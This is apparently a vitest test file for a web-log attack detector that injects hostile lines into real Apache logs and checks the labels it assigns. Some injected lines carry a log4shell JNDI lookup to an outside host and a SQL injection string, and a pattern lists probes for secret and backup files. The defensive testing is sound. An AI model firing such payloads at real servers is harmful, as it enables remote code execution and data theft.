// Detection v2 on real lines (skips when ../shared/data is absent): a slice of elastic-apache-logs with
// a real Acunetix session, attacks in a User-Agent and a Referer, and a client hammering one page
// injected. The scanner's requests, the header attacks and the clients' labels are checked one by one.

import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { attackTags } from '../../src/features/attack-tags.js';
import { analyze } from '../../src/pipeline/analyze.js';
import type { Analysis } from '../../src/types.js';
import { BENIGN_LOG, DATA, HAVE_DATA } from '../features/attack-mix.js';
import { record } from '../features/record.js';
import { trigramEmbedder } from '../helpers/trigram-embedder.js';

const SCANNER = '198.51.100.7';
const HAMMER = '198.51.100.8';
const AGENT_ATTACKER = '198.51.100.9';
const REFERER_ATTACKER = '198.51.100.10';

describe.skipIf(!HAVE_DATA)('detection v2 on real lines', () => {
  let analysis: Analysis;
  const scannerLines: number[] = [];
  let agentLine = 0;
  let refererLine = 0;

  beforeAll(async () => {
    const background = readFileSync(BENIGN_LOG, 'utf8').trimEnd().split('\n').slice(0, 3000);
    const scan = readFileSync(`${DATA}ocatak-apache-scans/acunetix.log`, 'utf8').split(/\r?\n/).slice(2000, 2150);
    const lines: string[] = [];
    background.forEach((line, i) => {
      lines.push(line);
      const time = /\[([^\]]+)\]/.exec(line)![1];
      if (i >= 1000 && i < 1150) {
        // The scanner's own request line, status and user agent, with the background's time.
        const m = /"(\S+ \S+ HTTP\/[\d.]+)" (\d{3}) \S+ "[^"]*" "([^"]*)"/.exec(scan[i - 1000]!.replace(/^"|"$/g, ''));
        if (m) {
          lines.push(`${SCANNER} - - [${time}] "${m[1]}" ${m[2]} 0 "-" "${m[3]}"`);
          scannerLines.push(lines.length);
        }
      }
      if (i >= 2000 && i < 2030) for (let k = 0; k < 10; k++) lines.push(`${HAMMER} - - [${time}] "GET /presentations/logstash-puppetconf-2012/ HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (Windows NT 6.1; rv:26.0) Gecko/20100101 Firefox/26.0"`);
      if (i === 2500) {
        lines.push(`${AGENT_ATTACKER} - - [${time}] "GET / HTTP/1.1" 200 3000 "-" "\${jndi:ldap://203.0.113.66:1389/a}"`);
        agentLine = lines.length;
      }
      if (i === 2600) {
        lines.push(`${REFERER_ATTACKER} - - [${time}] "GET /blog/ HTTP/1.1" 200 3000 "http://example.com/?id=1' union select password from users--" "Mozilla/5.0"`);
        refererLine = lines.length;
      }
    });
    const file = join(mkdtempSync(join(tmpdir(), 'semlog-v2-')), 'access.log');
    writeFileSync(file, `${lines.join('\n')}\n`);
    analysis = await analyze({ paths: [file], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('finds a scanner’s probes line by line, though most of them look ordinary alone', () => {
    const flagged = new Set(analysis.lines.filter((l) => l.ip === SCANNER).map((l) => l.line));
    const found = scannerLines.filter((line) => flagged.has(line)).length;
    expect(found / scannerLines.length).toBeGreaterThanOrEqual(0.9);
    const client = analysis.ips.find((ip) => ip.ip === SCANNER)!;
    expect(client.labels).toContain('hostile');
    expect(client.reasons[0]).toMatch(/^hostile: /);
    expect(analysis.lines.some((l) => l.ip === SCANNER && /from a hostile client .*unusual for this site: no other client/.test(l.reasons.join('; ')))).toBe(true);
  });

  it('finds attacks in the User-Agent and the Referer, and says which field', () => {
    const agent = analysis.lines.find((l) => l.line === agentLine)!;
    expect(agent.fields).toContain('userAgent');
    expect(agent.reasons[0]).toBe('the User-Agent carries log4shell');
    const referer = analysis.lines.find((l) => l.line === refererLine)!;
    expect(referer.fields).toContain('referer');
    expect(referer.reasons[0]).toBe('the Referer carries sql_injection');
  });

  it('ranks the hammering client near the top and labels the known crawlers', () => {
    const ranked = analysis.ips.map((ip) => ip.ip);
    expect(ranked.indexOf(HAMMER)).toBeLessThan(3);
    expect(analysis.ips.find((ip) => ip.ip === HAMMER)!.labels).toContain('hammering');
    const googlebot = analysis.ips.find((ip) => /googlebot/i.test(ip.topUserAgents[0]?.[0] ?? ''));
    if (googlebot) {
      expect(googlebot.labels).toContain('crawler');
      expect(ranked.indexOf(googlebot.ip)).toBeGreaterThan(ranked.indexOf(SCANNER));
    }
  });

  it('reports no ordinary page view of the scanner', () => {
    // Requests of the scanner to paths other clients get a success from, with no payload and
    // ordinary characters, are not findings.
    for (const line of analysis.lines.filter((l) => l.ip === SCANNER && l.outlierScore === 0)) {
      expect(line.reasons.join('; ')).toMatch(/no other client|answered \d+ where|looks like|unusual characters/);
    }
  });
});

describe.skipIf(!HAVE_DATA)('small scanners in the real elastic log', () => {
  let analysis: Analysis;
  beforeAll(async () => {
    analysis = await analyze({ paths: [BENIGN_LOG], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('calls hostile the clients whose few requests are all probes (/wp-login.php, /administrator/, /admin.php)', () => {
    for (const ip of ['195.250.34.144', '95.78.54.93', '198.245.61.43', '188.165.243.45']) {
      const client = analysis.ips.find((c) => c.ip === ip)!;
      expect(client.labels).toContain('hostile');
      // The four send the same list, so each says so.
      expect(client.reasons[0]).toBe('hostile: 3 of its 3 distinct requests probed (no other client uses them, or they answer only errors), '
        + 'it sent nothing but probes, 3 of them also sent by up to 3 other clients that send nothing but probes');
      expect(analysis.lines.filter((l) => l.ip === ip)).toHaveLength(3);
    }
  });

  it('calls MJ12bot a crawler: its 14 failures are dead links it followed (links misread in a script), none refused', () => {
    const mj12 = analysis.ips.find((c) => c.ip === '144.76.95.39')!;
    expect(mj12.labels).toEqual(['crawler']);
    expect(mj12.reasons[0]).toBe('known crawler (MJ12bot) with no attack behaviour, fetched /robots.txt: its volume weighs 0.25; '
      + '52 % of its requests fail, all on pages that do not exist (dead links it followed), none refused');
    expect(analysis.lines.filter((l) => l.ip === mj12.ip && l.reasons.some((r) => r.startsWith('from a hostile client')))).toEqual([]);
    expect(analysis.ips.slice(0, 10).map((c) => c.ip)).not.toContain(mj12.ip);
  });

  it('lists the hostile clients’ probes before the odd requests of ordinary clients, which score higher', () => {
    const attack = analysis.lines.filter((l) => l.attack);
    const odd = analysis.lines.filter((l) => !l.attack);
    expect(attack.length).toBeGreaterThanOrEqual(20); // the five probers' lines
    expect(odd.length).toBeGreaterThan(0); // garbled links readers and crawlers followed
    expect(analysis.lines).toEqual([...attack, ...odd]);
    const hostile = new Set(analysis.ips.filter((ip) => ip.labels.includes('hostile')).map((ip) => ip.ip));
    for (const line of attack) expect(hostile.has(line.ip) || line.tags.length > 0, `${line.ip} ${line.text}`).toBe(true);
    for (const line of odd) expect(hostile.has(line.ip) || line.tags.length > 0).toBe(false);
    // Not by score alone: the best odd request outscores every probe.
    expect(odd[0]!.score).toBeGreaterThan(attack[0]!.score);
  });

  it('leaves ordinary readers with a few missing icons or broken links alone', () => {
    // 84.137.208.44: 3 missing apple-touch icons among 8 requests; 176.92.75.62: 5 broken relative
    // links among 16; 86.28.207.22: 2 missing icons among 4.
    for (const ip of ['84.137.208.44', '176.92.75.62', '86.28.207.22']) {
      expect(analysis.ips.find((c) => c.ip === ip)?.labels ?? []).not.toContain('hostile');
    }
  });
});

const HONEYNET = `${DATA}honeynet-apache-2004/`;

describe.skipIf(!HAVE_DATA || !existsSync(HONEYNET))('method and proxy probes from the honeynet 2004 honeypot, on the real elastic log', () => {
  const PUTTER = '198.51.100.21';
  const TUNNELER = '198.51.100.22';
  let analysis: Analysis;
  const lines: Record<string, number[]> = { [PUTTER]: [], [TUNNELER]: [] };

  beforeAll(async () => {
    const honeypot = readdirSync(HONEYNET).filter((f) => f.startsWith('access_log')).sort().flatMap((f) => readFileSync(HONEYNET + f, 'latin1').split('\n'));
    // The honeypot's own request lines, statuses and user agents, under new addresses.
    const pick = (pattern: RegExp, n: number) => honeypot.filter((l) => pattern.test(l)).slice(0, n).map((l) => l.slice(l.indexOf(' - - [')));
    const puts = pick(/"PUT \//, 10);
    const tunnels = pick(/"CONNECT /, 10);
    expect(puts).toHaveLength(10);
    expect(tunnels).toHaveLength(10);
    const out = readFileSync(BENIGN_LOG, 'utf8').trimEnd().split('\n').slice(0, 3000);
    for (const [ip, sample] of [[PUTTER, puts], [TUNNELER, tunnels]] as const) {
      for (const rest of sample) {
        out.push(`${ip}${rest.replace(/\[[^\]]+\]/, '[20/May/2015:10:05:00 +0000]')}`);
        lines[ip]!.push(out.length);
      }
    }
    const file = join(mkdtempSync(join(tmpdir(), 'semlog-v2-')), 'access.log');
    writeFileSync(file, `${out.join('\n')}\n`);
    analysis = await analyze({ paths: [file], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('calls hostile a client whose refused method nobody else gets an answer to, and reports its requests', () => {
    const client = analysis.ips.find((c) => c.ip === PUTTER)!;
    expect(client.labels).toContain('hostile');
    expect(client.reasons[0]).toMatch(/^hostile: 10 request\(s\) refused, with a method no other client gets an answer to/);
    const flagged = new Set(analysis.lines.map((l) => l.line));
    expect(lines[PUTTER]!.every((line) => flagged.has(line))).toBe(true);
  });

  it('tags CONNECT tunnels as proxy probes and reports each of them', () => {
    const client = analysis.ips.find((c) => c.ip === TUNNELER)!;
    expect(client.labels).toContain('hostile');
    for (const line of lines[TUNNELER]!) {
      const finding = analysis.lines.find((l) => l.line === line)!;
      expect(finding.tags).toContain('proxy_probe');
    }
  });
});

describe.skipIf(!HAVE_DATA)('a client repeating one missing path, on the real elastic log', () => {
  const REPEATER = '198.51.100.31';
  let analysis: Analysis;
  const repeated: number[] = [];

  beforeAll(async () => {
    const out = readFileSync(BENIGN_LOG, 'utf8').trimEnd().split('\n').slice(0, 3000);
    // A real 404 of the log (its request line, status and user agent), asked for six times by one
    // new address that also reads the home page once.
    const missing = out.find((l) => /" 404 /.test(l) && /"GET \/[^ ]*\.php /.test(l)) ?? out.find((l) => /" 404 /.test(l))!;
    const home = out.find((l) => /"GET \/ HTTP\/1\.[01]" 200 /.test(l))!;
    const rest = (line: string) => line.slice(line.indexOf(' - - [')).replace(/\[[^\]]+\]/, '[20/May/2015:10:05:00 +0000]');
    out.push(`${REPEATER}${rest(home)}`);
    for (let i = 0; i < 6; i++) {
      out.push(`${REPEATER}${rest(missing)}`);
      repeated.push(out.length);
    }
    const file = join(mkdtempSync(join(tmpdir(), 'semlog-v2-')), 'access.log');
    writeFileSync(file, `${out.join('\n')}\n`);
    analysis = await analyze({ paths: [file], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('calls it hostile for its repeated probes and reports each of them, not its page view', () => {
    const client = analysis.ips.find((c) => c.ip === REPEATER)!;
    expect(client.labels).toContain('hostile');
    expect(client.reasons[0]).toContain('6 of its 7 requests were such probes, repeated');
    expect(analysis.lines.filter((l) => l.ip === REPEATER).map((l) => l.line)).toEqual(repeated);
  });
});

const SECREPO_2018 = `${DATA}secrepo-weblogs/access-2018-12-15.log`;

describe.skipIf(!HAVE_DATA || !existsSync(SECREPO_2018))('a probe list spread over many addresses, on the real secrepo 2018 log', () => {
  // secrepo.com answers 418 to a bot that asks for /wp-login.php and / from dozens of addresses, two
  // requests each, over the day: too few per client for any per-client probe rule.
  let analysis: Analysis;
  const byClient = new Map<string, Array<{ line: number; request: string; status: string }>>();

  beforeAll(async () => {
    readFileSync(SECREPO_2018, 'utf8').trimEnd().split('\n').forEach((text, k) => {
      const m = /^(\S+) .*?"(\S+ \S+) [^"]*" (\d{3}) /.exec(text);
      if (m === null) return;
      byClient.set(m[1]!, [...(byClient.get(m[1]!) ?? []), { line: k + 1, request: m[2]!, status: m[3]! }]);
    });
    analysis = await analyze({ paths: [SECREPO_2018], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('calls hostile each client that sent only the shared probes, and reports both of its requests', () => {
    const campaign = [...byClient].filter(([, rs]) => rs.length === 2 && rs.every((r) => r.status === '418')
      && new Set(rs.map((r) => r.request)).size === 2 && rs.every((r) => r.request === 'GET /wp-login.php' || r.request === 'GET /'));
    expect(campaign.length).toBeGreaterThanOrEqual(20);
    const flagged = new Set(analysis.lines.map((l) => l.line));
    for (const [ip, rs] of campaign) {
      const client = analysis.ips.find((c) => c.ip === ip)!;
      expect(client.labels).toContain('hostile');
      expect(client.reasons[0]).toMatch(/it sent nothing but probes, 2 of them also sent by up to \d+ other clients that send nothing but probes/);
      expect(rs.every((r) => flagged.has(r.line))).toBe(true);
    }
  });

  it('does not call hostile a client with one refused request: one failure says nothing', () => {
    const single = [...byClient].filter(([, rs]) => rs.length === 1 && rs[0]!.status === '418');
    expect(single.length).toBeGreaterThan(0);
    for (const [ip] of single) expect(analysis.ips.find((c) => c.ip === ip)?.labels ?? []).not.toContain('hostile');
  });
});

const SECREPO_2022 = `${DATA}secrepo-weblogs/access-2022-12-22.log`;

describe.skipIf(!HAVE_DATA || !existsSync(SECREPO_2022))('one request per address, on the real secrepo 2022 log', () => {
  // A campaign asks secrepo.com for backup archives and secrets (`/backup.tar`, `/old/www.zip`,
  // `/restore/.env`) from some eighty addresses, one request each, answered 301 or 404: each address
  // is below every per-client count, and sent nothing but the attack.
  let analysis: Analysis;
  const single = new Map<string, { line: number; path: string; status: string }>();
  // The names the sensitive-file signature knows (features/attack-patterns.ts); `/backups/web.zip` is
  // not among them.
  const BACKUP_PROBE = /\/(?:backup|www|dump)\.(?:zip|tar|gz|rar)$|\.sql$|\/\.env$/;

  beforeAll(async () => {
    const byClient = new Map<string, Array<{ line: number; path: string; status: string }>>();
    readFileSync(SECREPO_2022, 'utf8').trimEnd().split('\n').forEach((text, k) => {
      const m = /^(\S+) .*?"\S+ (\S+) [^"]*" (\d{3}) /.exec(text);
      if (m === null) return;
      byClient.set(m[1]!, [...(byClient.get(m[1]!) ?? []), { line: k + 1, path: m[2]!, status: m[3]! }]);
    });
    for (const [ip, rs] of byClient) if (rs.length === 1) single.set(ip, rs[0]!);
    analysis = await analyze({ paths: [SECREPO_2022], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('calls hostile each address whose one request probed for a backup or a secret, and reports it', () => {
    const probers = [...single].filter(([, r]) => BACKUP_PROBE.test(r.path) && r.status !== '200');
    expect(probers.length).toBeGreaterThanOrEqual(60);
    const flagged = new Set(analysis.lines.map((l) => l.line));
    for (const [ip, r] of probers) {
      const client = analysis.ips.find((c) => c.ip === ip);
      expect(client?.labels, `${ip} ${r.path}`).toContain('hostile');
      expect(client!.reasons[0]).toMatch(/^hostile: 1 request\(s\) with attack payloads/);
      expect(flagged.has(r.line)).toBe(true);
    }
  });

  it('tags the backup scanners’ other guesses: archives of the web root or named after the site, shell histories', () => {
    // Every request for them in the log, whoever sent it and whatever it got; the tag alone (a client
    // that also sent an untagged probe is not hostile for one payload, and its line may not be a finding).
    const paths = readFileSync(SECREPO_2022, 'utf8').trimEnd().split('\n').flatMap((text) => {
      const path = /"\S+ (\S+) /.exec(text)?.[1] ?? '';
      return /\/\.bash_history$|\/public_html\.(?:zip|tar|gz|rar)$|\/(?:www\.)?secrepo\.com\.(?:zip|tar|tar\.gz|gz|rar)$/.test(path) ? [path] : [];
    });
    expect(paths.length).toBeGreaterThanOrEqual(30);
    for (const path of paths) expect(attackTags(record({ path })), path).toContain('sensitive_file_probe');
    // Where their senders are hostile, their lines are findings that say so.
    const hostile = new Set(analysis.ips.filter((ip) => ip.labels.includes('hostile')).map((ip) => ip.ip));
    const reported = analysis.lines.filter((l) => hostile.has(l.ip) && paths.some((p) => l.text === `HEAD ${p}` || l.text === `GET ${p}`));
    expect(reported.length).toBeGreaterThanOrEqual(20);
    for (const line of reported) expect(line.tags).toContain('sensitive_file_probe');
  });

  it('leaves alone the addresses whose one request was a page, robots.txt or one of the site’s published logs', () => {
    const readers = [...single].filter(([, r]) => r.status === '200' && !BACKUP_PROBE.test(r.path));
    expect(readers.length).toBeGreaterThanOrEqual(30);
    for (const [ip] of readers) expect(analysis.ips.find((c) => c.ip === ip)?.labels ?? []).not.toContain('hostile');
  });
});

const SECREPO_2021 = `${DATA}secrepo-weblogs/access-2021-10-22_27.log`;

describe.skipIf(!HAVE_DATA || !existsSync(SECREPO_2021))('clients that rotate their user agent, on the real secrepo 2021 log', () => {
  // Three addresses download secrepo's datasets with a user agent drawn from a list for nearly every
  // request (30, 49 and 58 requests); every other client of these six days sends one or a few.
  // The label says so; it is no attack label (clients/client-rank.ts: a NAT can look the same).
  let analysis: Analysis;
  const agents = new Map<string, { requests: number; agents: Set<string> }>();

  beforeAll(async () => {
    for (const text of readFileSync(SECREPO_2021, 'utf8').trimEnd().split('\n')) {
      const m = /^(\S+) .*" \d{3} \S+ "[^"]*" "([^"]*)"/.exec(text);
      if (m === null) continue;
      const client = agents.get(m[1]!) ?? { requests: 0, agents: new Set<string>() };
      client.requests++;
      client.agents.add(m[2]!);
      agents.set(m[1]!, client);
    }
    analysis = await analyze({ paths: [SECREPO_2021], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('labels exactly the clients with 5+ user agents, one for every two requests or more, and says so', () => {
    const rotating = [...agents].filter(([, c]) => c.agents.size >= 5 && c.agents.size >= c.requests / 2).map(([ip]) => ip);
    expect(rotating.sort()).toEqual(['161.97.144.155', '164.68.96.84', '39.105.117.69']);
    const labelled = analysis.ips.filter((ip) => ip.labels.includes('agent-rotation'));
    expect(labelled.map((ip) => ip.ip).sort()).toEqual(rotating);
    for (const ip of labelled) {
      expect(ip.reasons[0]).toMatch(/^agent-rotation: (about )?\d+ different user agents in its \d+ requests$/);
      expect(ip.fired).toContain('distinct_user_agents'); // reported for its z-scores, not for the label
    }
  });

  it('leaves alone the clients with several user agents and far more requests (a household, an office)', () => {
    const several = [...agents].filter(([, c]) => c.agents.size >= 2 && c.agents.size < c.requests / 2).map(([ip]) => ip);
    expect(several.length).toBeGreaterThanOrEqual(5);
    for (const ip of several) expect(analysis.ips.find((c) => c.ip === ip)?.labels ?? []).not.toContain('agent-rotation');
  });
});

const W3AF = `${DATA}ocatak-apache-scans/w3af.log`;
const ACUNETIX = `${DATA}ocatak-apache-scans/acunetix.log`;
const NETNEA_8 = `${DATA}netnea-tutorial-logs/tutorial-8-example-access.log`;

describe.skipIf(!HAVE_DATA || !existsSync(NETNEA_8))('a log of nothing but scanners: the real w3af and Acunetix sessions of ocatak-apache-scans', () => {
  const W3AF_CLIENT = '192.168.4.163';
  let analysis: Analysis;
  /** The w3af log's raw lines by line number, and the paths some request of either log got a success from. */
  let w3afLines: string[];
  const succeeded = new Set<string>();

  beforeAll(async () => {
    w3afLines = readFileSync(W3AF, 'utf8').split(/\r?\n/);
    for (const file of [W3AF, ACUNETIX]) {
      for (const line of readFileSync(file, 'utf8').split(/\r?\n/)) {
        const m = /"\S+ ([^ ?]*)\S* HTTP\/[\d.]+" (\d{3}) /.exec(line);
        if (m !== null && Number(m[2]) < 400) succeeded.add(m[1]!);
      }
    }
    analysis = await analyze({ paths: [W3AF, ACUNETIX], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('calls every client hostile, so no ordinary client says what the site is', () => {
    expect(analysis.ips.map((ip) => ip.labels.includes('hostile'))).toEqual(analysis.ips.map(() => true));
    expect(analysis.ips.map((ip) => ip.ip)).toContain(W3AF_CLIENT);
  });

  it("reports w3af's requests answered with an error on routes that answer no client with a success, and only those", () => {
    const probes = analysis.lines.filter((l) => l.ip === W3AF_CLIENT && l.reasons.some((r) => r.includes('no client gets a success from')));
    // w3af sent no payload the tags know: before, none of its 3,996 lines was a finding.
    expect(probes.length).toBeGreaterThan(200);
    for (const finding of probes) {
      const route = /no client gets a success from (\S+)/.exec(finding.reasons.join(' '))![1]!;
      const raw = w3afLines[finding.line - 1]!;
      expect(Number(/" (\d{3}) /.exec(raw)![1])).toBeGreaterThanOrEqual(400);
      expect(succeeded.has(route)).toBe(false);
    }
    // Its page views are not findings: the site's home page answered 200.
    expect(analysis.lines.some((l) => l.ip === W3AF_CLIENT && l.text === 'GET /')).toBe(false);
  });

  it('does the same in a scanner’s log alone, one client: Acunetix’s', async () => {
    const alone = await analyze({ paths: [ACUNETIX], embedder: trigramEmbedder(), cacheDir: false });
    expect(alone.summary.clientIps).toBe(1);
    const raw = readFileSync(ACUNETIX, 'utf8').split(/\r?\n/);
    const probes = alone.lines.filter((l) => l.reasons.some((r) => r.includes('no client gets a success from')));
    expect(probes.length).toBeGreaterThan(100);
    for (const finding of probes) expect(Number(/" (\d{3}) /.exec(raw[finding.line - 1]!)![1])).toBeGreaterThanOrEqual(400);
  });

  it('leaves alone one address carrying a site that answered it only errors: netnea tutorial-8, benign, all 404', async () => {
    const { NETNEA_FORMAT } = await import('../parse/helpers.js');
    const probeReasons = (a: Analysis) => a.lines.filter((l) => l.reasons.some((r) => r.includes('no client gets a success from')));
    const one = await analyze({ paths: [NETNEA_8], logFormat: NETNEA_FORMAT, embedder: trigramEmbedder(), cacheDir: false });
    expect(one.summary.clientIps).toBe(1);
    expect(probeReasons(one)).toEqual([]);
    // With a second client beside it (as in the holdout mix): its address is hostile and probes as
    // much as a scanner, but does not say it is one.
    const lines = readFileSync(NETNEA_8, 'utf8').trimEnd().split('\n');
    const file = join(mkdtempSync(join(tmpdir(), 'semlog-v2-')), 'access.log');
    writeFileSync(file, `${[...lines, lines[0]!.replace(/^127\.0\.0\.1 /, '198.51.100.50 ')].join('\n')}\n`);
    const two = await analyze({ paths: [file], logFormat: NETNEA_FORMAT, embedder: trigramEmbedder(), cacheDir: false });
    expect(two.summary.clientIps).toBe(2);
    expect(two.ips.find((ip) => ip.ip === '127.0.0.1')?.labels).toContain('hostile');
    expect(probeReasons(two)).toEqual([]);
  });
});
